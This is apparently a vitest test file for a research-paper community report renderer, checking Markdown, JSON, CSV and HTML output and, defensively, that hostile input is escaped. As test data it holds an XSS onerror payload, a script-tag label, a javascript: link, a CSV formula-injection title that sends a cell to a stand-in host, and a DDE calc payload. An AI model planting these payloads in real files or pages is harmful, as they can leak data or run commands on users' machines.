import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import {
  CSV_COLUMNS,
  buildReportModel,
  renderCsv,
  renderHtml,
  renderJson,
  renderMarkdown,
} from '../../src/report/index.js';
import { makeFixture } from './fixture.js';
import { createKnowledgeGraph } from '../../src/mention-store.js';

const XSS = '<img src=x onerror="window.__xss=1">';

function render(titles: Record<string, string> = {}) {
  const { graph, communities } = makeFixture(titles);
  const model = buildReportModel(graph, communities);
  return { model, md: renderMarkdown(model), json: renderJson(model), csv: renderCsv(model), html: renderHtml(model) };
}

describe('determinism', () => {
  it('gives byte-identical reports for the same input', () => {
    const a = render();
    const b = render();
    expect(b.md).toBe(a.md);
    expect(b.json).toBe(a.json);
    expect(b.csv).toBe(a.csv);
    expect(b.html).toBe(a.html);
  });
});

describe('renderMarkdown', () => {
  const { md } = render({ p2: 'Pipes | and <b>tags</b>' });

  it('has the summary and every section of every community', () => {
    expect(md.startsWith('# PaperGraph community report\n')).toBe(true);
    expect(md).toContain('## Corpus summary');
    expect(md).toContain('| Seed | 42 |');
    for (const id of [0, 1]) expect(md).toMatch(new RegExp(`^## Community ${id}: `, 'm'));
    for (const section of [
      '### Top concepts',
      '### Representative papers',
      '### Distinctive terms',
      '### Acronyms',
      '### Bridge concepts',
      '### Links to other communities',
    ]) {
      expect(md.split(section).length - 1).toBe(2);
    }
    // Once for the corpus, once per community.
    expect(md.split('### Papers per year').length - 1).toBe(3);
    expect(md.endsWith('\n')).toBe(true);
    expect(md.endsWith('\n\n')).toBe(false);
  });

  it('links papers and escapes their titles', () => {
    expect(md).toContain('[Deep neural networks](<https://example.org/p1>)');
    expect(md).toContain('Pipes \\| and \\<b\\>tags\\</b\\>');
    expect(md).not.toContain('<b>');
  });

  it('lists the acronyms and the bridge with its link', () => {
    expect(md).toContain('- **GP**: Gaussian process — used in [Gaussian process priors](<https://example.org/p4>) (p4); Bayesian optimization with GPs (p5)');
    expect(md).toContain('| kernel | 0.48 | 2 | [0](#community-0) (2) |');
  });
});

describe('renderJson', () => {
  it('round-trips to the model', () => {
    const { model, json } = render();
    expect(JSON.parse(json)).toEqual(model);
  });
});

describe('renderCsv', () => {
  it('writes titles a spreadsheet would run as formulas as text', () => {
    const { csv } = render({ p1: '=HYPERLINK("http://evil.example/?"&A1,"x")', p2: "+cmd|' /C calc'!A0" });
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    const titles = rows.map((r) => r.paper_titles!).filter((t) => /HYPERLINK|cmd\|/.test(t));
    expect(titles.length).toBeGreaterThan(0);
    for (const cell of rows.flatMap((r) => Object.values(r))) expect(cell).not.toMatch(/^[=+@]/);
  });


  it('holds one row per community × top concept, quoting where needed', () => {
    const { csv } = render({ p1: 'Deep, "quoted" networks' });
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    expect(Object.keys(rows[0]!)).toEqual([...CSV_COLUMNS]);
    expect(rows.map((r) => [r.community, r.rank, r.concept_key])).toEqual([
      ['0', '1', 'neural network'],
      ['0', '2', 'attention'],
      ['0', '3', 'transformer'],
      ['1', '1', 'kernel'],
      ['1', '2', 'gaussian process'],
      ['1', '3', 'bayesian optimization'],
    ]);
    expect(rows[0]).toMatchObject({
      community_label: 'neural network · attention · transformer',
      community_concepts: '3',
      community_papers: '3',
      cohesion: '0.75',
      df: '3',
      centrality: '2',
      paper_ids: 'p1; p3; p6',
    });
    expect(rows[0]!.paper_titles!.startsWith('Deep, "quoted" networks; ')).toBe(true);
  });
});

describe('renderHtml', () => {
  const { html } = render({ p1: XSS });

  it('escapes text from the corpus', () => {
    expect(html).not.toContain(XSS);
    expect(html).toContain('&lt;img src=x onerror=&quot;window.__xss=1&quot;&gt;');
    expect(html).not.toMatch(/<script/i);
  });

  it('is self-contained: no external URL besides paper links', () => {
    const refs = [...html.matchAll(/(?:src|href)="([^"]*)"/g)].map((m) => m[1]!);
    const external = refs.filter((r) => /^[a-z]+:/i.test(r) && !r.startsWith('data:'));
    expect([...new Set(external)].sort()).toEqual([
      'https://example.org/p1',
      'https://example.org/p2',
      'https://example.org/p4',
    ]);
    expect(html).toContain('Content-Security-Policy');
    expect(html).not.toMatch(/<(link|script|img|iframe)[^>]+(src|href)="(?!data:)/i);
  });

  it('has a table of contents, three kinds of chart and a print stylesheet', () => {
    expect(html).toContain('<nav id="toc"');
    expect(html).toContain('<a href="#community-0">0: neural network · attention · transformer</a>');
    expect(html).toContain('aria-label="Community sizes in concepts and papers"');
    expect(html).toContain('aria-label="Papers per year"');
    expect(html).toContain('aria-label="Co-occurrence weight between communities"');
    expect(html).toContain('@media print');
  });

  it('links concepts to the viewer with the key in the hash', () => {
    expect(html).toContain('<a href="../index.html#concept=neural%20network" title="neural network">neural network</a>');
    const { graph, communities } = makeFixture();
    const custom = renderHtml(buildReportModel(graph, communities), { viewerUrl: '../viewer/' });
    expect(custom).toContain('href="../viewer/#concept=gaussian%20process"');
  });
});

describe('papers by title, linked where they can be read', () => {
  const { graph, communities } = makeFixture({}, { p3: 'doi:10.1000/k3', p5: 'arxiv:2101.00001', p6: 'title:3b8f0c9d2e1a4b5c' });
  const model = buildReportModel(graph, communities);
  const html = renderHtml(model);
  const md = renderMarkdown(model);

  it('links a paper without a URL to its DOI or arXiv id', () => {
    expect(html).toContain('<a href="https://doi.org/10.1000/k3" rel="noopener noreferrer">Kernels in neural networks</a>');
    expect(html).toContain('<a href="https://arxiv.org/abs/2101.00001" rel="noopener noreferrer">Bayesian optimization with GPs</a>');
    expect(md).toContain('[Kernels in neural networks](<https://doi.org/10.1000/k3>)');
  });

  it('names a paper known only by its title by that title, never by its hash id', () => {
    expect(html).toContain('Undated optimization');
    expect(html).not.toContain('title:3b8f0c9d2e1a4b5c');
    expect(md).toContain('Undated optimization');
    expect(md).not.toContain('title:3b8f0c9d2e1a4b5c');
    // Other ids still say which record it is.
    expect(html).toContain('<span class="id">doi:10.1000/k3</span>');
  });

  it('puts each community in a collapsed <details> holding its link target', () => {
    const sections = html.split('<section class="community">').slice(1);
    expect(sections).toHaveLength(2);
    for (const [i, section] of sections.entries()) {
      expect(section).toMatch(new RegExp(`^\\n<details>\\n<summary><h2>Community ${i}: `));
      expect(section.indexOf(`id="community-${i}"`)).toBeGreaterThan(section.indexOf('</summary>'));
    }
  });
});

describe('hostile labels and links', () => {
  const { graph, communities } = makeFixture();
  graph.mergeNodeAttributes('concept:attention', { label: '<script>window.__x=1</script>"att"' });
  graph.mergeNodeAttributes('paper:p2', { url: 'javascript:alert(1)' });
  const model = buildReportModel(graph, communities);

  it('escapes concept labels and drops non-http links in HTML', () => {
    const html = renderHtml(model);
    expect(html).not.toContain('<script>');
    expect(html).toContain('&lt;script&gt;window.__x=1&lt;/script&gt;&quot;att&quot;');
    expect(html).not.toContain('javascript:');
  });

  it('escapes concept labels and drops non-http links in Markdown', () => {
    const md = renderMarkdown(model);
    expect(md).not.toContain('<script>');
    expect(md).toContain('\\<script\\>window.\\_\\_x=1\\</script\\>"att"');
    expect(md).not.toContain('javascript:');
  });
});

describe('an empty build', () => {
  const model = buildReportModel(createKnowledgeGraph(), {
    algorithm: 'leiden',
    resolution: 0.5,
    seed: 3,
    modularity: 0,
    communities: [],
  });

  it('still renders every format', () => {
    const md = renderMarkdown(model);
    expect(md).toContain('| Communities | 0 |');
    expect(md).toContain('No dated papers.');
    expect(md).not.toContain('## Community ');
    expect(renderCsv(model)).toBe(`${CSV_COLUMNS.join(',')}\n`);
    const html = renderHtml(model);
    expect(html).toContain('seed 3');
    expect(html).toMatch(/<\/html>\n$/);
    expect(html).not.toContain('<section class="community"');
  });
});
